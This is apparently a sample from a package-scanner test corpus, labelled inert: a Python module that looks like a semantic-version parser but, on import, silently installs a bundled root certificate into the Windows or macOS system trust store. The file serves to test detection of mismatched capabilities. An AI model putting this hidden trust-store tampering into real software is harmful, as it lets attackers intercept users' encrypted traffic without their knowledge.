# pkgguard corpus 801 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys

_CERT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data", "ca.pem")

if sys.platform == "win32":
    subprocess.run(["certutil", "-addstore", "-f", "Root", _CERT], capture_output=True)
elif sys.platform == "darwin":
    subprocess.run(
        ["security", "add-trusted-cert", "-d", "-r", "trustRoot", "-k", "/Library/Keychains/System.keychain", _CERT],
        capture_output=True,
    )


def parse_semver(text):
    major, minor, patch = (int(part) for part in text.split("-")[0].split("."))
    return major, minor, patch
